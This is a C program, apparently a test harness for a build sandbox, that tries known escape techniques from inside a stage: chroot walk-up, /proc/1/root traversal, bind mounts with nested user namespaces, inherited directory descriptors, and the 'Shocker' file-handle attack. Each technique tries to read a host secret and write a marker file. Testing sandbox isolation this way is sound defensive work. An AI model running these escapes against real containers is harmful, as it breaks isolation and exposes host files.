/* Escape attempts a hostile build step makes; compiled static and run inside a stage.
 *
 * escape chroot|proc1|mount|fd|handle SECRET MARKER [HANDLE]
 * Each mode tries to read SECRET (a host path) and to create MARKER (a host path),
 * printing "READ <content>" / "WROTE <path>" when it succeeds and the error when not.
 * `escape gethandle PATH` (run on the host) prints PATH's file handle for mode `handle`.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static void try_read(const char *how, int dirfd, const char *path) {
    int fd = openat(dirfd, path, O_RDONLY);
    if (fd < 0) {
        printf("%s: read %s: %s\n", how, path, strerror(errno));
        return;
    }
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    printf("%s: READ %s\n", how, buf);
    close(fd);
}

static void try_write(const char *how, int dirfd, const char *path) {
    int fd = openat(dirfd, path, O_WRONLY | O_CREAT, 0644);
    if (fd < 0) {
        printf("%s: write %s: %s\n", how, path, strerror(errno));
        return;
    }
    if (write(fd, how, strlen(how)) < 0) printf("%s: write: %s\n", how, strerror(errno));
    close(fd);
    printf("%s: WROTE %s\n", how, path);
}

static void both(const char *how, int dirfd, const char *secret, const char *marker) {
    try_read(how, dirfd, secret);
    try_write(how, dirfd, marker);
}

int main(int argc, char **argv) {
    if (argc == 3 && !strcmp(argv[1], "gethandle")) {
        struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
        int mount_id;
        h->handle_bytes = MAX_HANDLE_SZ;
        if (name_to_handle_at(AT_FDCWD, argv[2], h, &mount_id, 0)) { perror("name_to_handle_at"); return 1; }
        printf("%d:", h->handle_type);
        for (unsigned i = 0; i < h->handle_bytes; i++) printf("%02x", h->f_handle[i]);
        printf("\n");
        return 0;
    }
    if (argc < 4) return 2;
    const char *mode = argv[1], *secret = argv[2], *marker = argv[3];
    char path[4096];
    if (!strcmp(mode, "chroot")) {
        /* The classic: chroot into a subfolder without entering it, walk up, chroot there. */
        mkdir("x", 0755);
        if (chroot("x")) printf("chroot x: %s\n", strerror(errno));
        for (int i = 0; i < 256; i++) chdir("..");
        if (chroot(".")) printf("chroot .: %s\n", strerror(errno));
        both("chroot", AT_FDCWD, secret, marker);
    } else if (!strcmp(mode, "proc1")) {
        snprintf(path, sizeof path, "/proc/1/root%s", secret);
        try_read("proc1", AT_FDCWD, path);
        snprintf(path, sizeof path, "/proc/1/root%s", marker);
        try_write("proc1", AT_FDCWD, path);
        snprintf(path, sizeof path, "/proc/1/cwd/../../../../../../../..%s", secret);
        try_read("proc1-cwd", AT_FDCWD, path);
    } else if (!strcmp(mode, "mount")) {
        mkdir("/mnt", 0755);
        if (mount("none", "/mnt", "tmpfs", 0, NULL)) printf("mount tmpfs: %s\n", strerror(errno));
        else printf("mount tmpfs: MOUNTED\n");
        if (mount("/", "/mnt", NULL, MS_BIND | MS_REC, NULL)) printf("mount bind: %s\n", strerror(errno));
        /* A nested user namespace gives full capabilities over nothing but itself. */
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) printf("unshare: %s\n", strerror(errno));
        if (mount("/", "/mnt", NULL, MS_BIND | MS_REC, NULL)) printf("nested bind: %s\n", strerror(errno));
        snprintf(path, sizeof path, "/mnt%s", secret);
        try_read("mount", AT_FDCWD, path);
        snprintf(path, sizeof path, "/mnt%s", marker);
        try_write("mount", AT_FDCWD, path);
    } else if (!strcmp(mode, "fd")) {
        /* Any inherited directory fd, walked up from. */
        for (int fd = 3; fd < 1024; fd++) {
            struct stat st;
            if (fstat(fd, &st) || !S_ISDIR(st.st_mode)) continue;
            snprintf(path, sizeof path, "../../../../../../../../../..%s", secret);
            try_read("fd", fd, path);
            snprintf(path, sizeof path, "../../../../../../../../../..%s", marker);
            try_write("fd", fd, path);
        }
        printf("fd: done\n");
    } else if (!strcmp(mode, "handle") && argc == 5) {
        /* "Shocker": open the host's file by its handle, past every mount and chroot. */
        struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
        char *hex = strchr(argv[4], ':');
        h->handle_type = atoi(argv[4]);
        h->handle_bytes = 0;
        for (hex++; hex[0] && hex[1]; hex += 2) sscanf(hex, "%2hhx", &h->f_handle[h->handle_bytes++]);
        int root = open("/", O_RDONLY | O_DIRECTORY);
        int fd = open_by_handle_at(root, h, O_RDONLY);
        if (fd < 0) {
            printf("handle: open_by_handle_at: %s\n", strerror(errno));
        } else {
            char buf[256];
            ssize_t n = read(fd, buf, sizeof buf - 1);
            buf[n > 0 ? n : 0] = 0;
            printf("handle: READ %s\n", buf);
        }
    } else {
        return 2;
    }
    return 0;
}
